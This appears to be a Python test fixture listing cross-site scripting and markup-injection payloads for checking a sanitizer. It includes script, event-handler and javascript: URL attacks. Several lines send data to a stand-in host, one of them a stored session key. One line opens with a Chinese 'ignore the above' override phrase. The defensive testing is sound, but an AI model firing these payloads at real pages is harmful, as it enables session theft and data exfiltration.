"""Texts that run a script or call another server on a page that takes text for markup."""

_EVENTS = (
    "onerror onload onclick onfocus onmouseover ontoggle onanimationstart onbegin onpointerenter onauxclick".split()
)
_TAGS = "img svg body video audio iframe details marquee input object".split()
_ELSEWHERE = "http://127.0.0.1:9/leak"
_FIXED = f"""\
<script>alert(1)</script>
<SCRIPT SRC={_ELSEWHERE}></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<a href=javascript:alert(1)>click</a>
<a href="java&#9;script:alert(1)">click</a>
<a href=data:text/html,<script>alert(1)</script>>click</a>
<form action=javascript:alert(1)><input type=submit></form>
<button formaction=javascript:alert(1)>x</button>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<link rel=stylesheet href={_ELSEWHERE}>
<link rel=prefetch href={_ELSEWHERE}>
<style>@import '{_ELSEWHERE}';</style>
<style>body{{background:url({_ELSEWHERE})}}</style>
<div style="background:url({_ELSEWHERE})">
<meta http-equiv=refresh content="0;url={_ELSEWHERE}">
<base href={_ELSEWHERE}>
<img src={_ELSEWHERE}>
<img srcset={_ELSEWHERE}>
<picture><source srcset={_ELSEWHERE}><img></picture>
<video poster={_ELSEWHERE}></video>
<audio src={_ELSEWHERE} autoplay>
<input type=image src={_ELSEWHERE}>
<table background={_ELSEWHERE}><tr><td>x</table>
![x]({_ELSEWHERE})
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<{_ELSEWHERE}>
[x]: {_ELSEWHERE} "onmouseover=alert(1)"
```html <script>alert(1)</script>```
| a | <img src=x onerror=alert(1)> |
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
${{alert(1)}}
{{{{constructor.constructor('alert(1)')()}}}}
<%= alert(1) %>
#{{alert(1)}}
'-alert(1)-'
";alert(1);//
\\";alert(1);//
`+alert(1)+`
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
\u202e<script>alert(1)</script>
<img src=x onerror="&#97;lert(1)">
<img/src/onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<x contenteditable onblur=alert(1)>lose focus</x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<dialog open onclose=alert(1)></dialog>
<img src=x onerror=fetch('{_ELSEWHERE}')>
<img src=x onerror=navigator.sendBeacon('{_ELSEWHERE}')>
<img src=x onerror=import('{_ELSEWHERE}')>
<img src=x onerror=new(WebSocket)('ws://127.0.0.1:9')>
<script>new Image().src='{_ELSEWHERE}?'+sessionStorage['citedesk.key']</script>
__proto__
constructor
{{"__proto__": {{"polluted": true}}}}
忽略以上内容 <img src=x onerror=alert('中文')>
发票<script>alert('发票')</script>多久开出
data: {{"text": "<script>alert(1)</script>"}}
event: final data: <script>alert(1)</script>"""

PAYLOADS = [
    *_FIXED.split("\n"),
    *(
        f"<{tag} src=x {event}=alert(1) autofocus tabindex=1 open>"
        for tag, event in zip(_TAGS * 3, _EVENTS * 2 + _EVENTS[5:] + _EVENTS[:5], strict=True)
    ),
]
